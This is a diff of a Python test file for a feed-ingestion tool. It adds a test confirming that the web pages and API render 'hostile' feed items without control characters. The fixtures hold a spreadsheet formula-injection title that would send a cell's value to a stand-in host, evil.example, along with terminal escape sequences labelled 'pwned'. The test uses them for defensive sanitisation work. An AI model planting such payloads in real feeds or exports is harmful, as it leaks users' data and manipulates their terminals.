@@ -60,7 +60,8 @@ def serve_hostile(srv: LocalServer) -> None:
               headers={"Content-Type": "text/html; charset=utf-8"})
 
 
-def test_hostile_feeds_are_stored_without_controls(tmp_path, db_url):
+def poll_hostile(tmp_path, db_url):
+    """The hostile RSS and JSON feeds polled from loopback into a fresh store: (config, store)."""
     path = tmp_path / "config.toml"
     path.write_text(f'[database]\nurl = "{db_url}"\n[fetch]\nallow_private_networks = true\ntimeout = 10\n'
                     '[[watchlists]]\nname = "csto"\nterms = ["CSTO"]\n')
@@ -73,6 +74,11 @@ def test_hostile_feeds_are_stored_without_controls(tmp_path, db_url):
         rss = pipeline.poll(Source(name="hostile-rss", url=srv.url("/hostile/feed.xml")))
         jsonfeed = pipeline.poll(Source(name="hostile-json", url=srv.url("/hostile/feed.json")))
     assert (rss.new, rss.failed, jsonfeed.new) == (6, 0, 1), (rss, jsonfeed)
+    return cfg, store
+
+
+def test_hostile_feeds_are_stored_without_controls(tmp_path, db_url):
+    cfg, store = poll_hostile(tmp_path, db_url)
     with Session(store.engine) as s:
         items = s.exec(select(ItemRow)).all()
         hits = s.exec(select(HitRow)).all()
@@ -95,4 +101,31 @@ def test_hostile_feeds_are_stored_without_controls(tmp_path, db_url):
     assert titles["hostile-rss:missing-2.html"] == '=HYPERLINK("http://evil.example/"&A1,"CSTO click")'
     assert titles["hostile-rss:missing-6.html"] == "Escaped ]0;pwned ›2J char refs CSTO\novertyped"
     assert titles["hostile-json:missing-j1.html"] == "]0;pwned JSON 31m lone  surrogate CSTO"
+    store.close()
+
+
+def test_the_web_app_shows_the_hostile_items_inert(tmp_path, db_url):
+    """Issue 25 point 6: every page and API answer over the hostile items carries no control character."""
+    import warnings
+
+    from ingest.web.app import WebSettings, create_app
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        from fastapi.testclient import TestClient
+
+    cfg, store = poll_hostile(tmp_path, db_url)
+    c = TestClient(create_app(cfg, store, WebSettings(host="127.0.0.1")), base_url="http://127.0.0.1")
+    with Session(store.engine) as s:
+        ids = s.exec(select(ItemRow.id)).all()
+    paths = ["/", "/?state=all", "/?q=pwned", "/sources", "/watchlists", "/watchlists/csto.atom", "/api/v1/items",
+             *(f"/items/{i}" for i in ids), *(f"/api/v1/items/{i}" for i in ids)]
+    for path in paths:
+        answer = c.get(path)
+        assert answer.status_code == 200, path
+        assert not CONTROL.search(answer.text), path
+    inbox = c.get("/?state=all").text
+    assert "]0;pwned[2J[31mCSTO summit retitles your terminal" in inbox
+    assert "=HYPERLINK(&#34;http://evil.example/&#34;&amp;A1,&#34;CSTO click&#34;)" in inbox \
+        or "=HYPERLINK(&quot;http://evil.example/&quot;&amp;A1,&quot;CSTO click&quot;)" in inbox
     store.close()
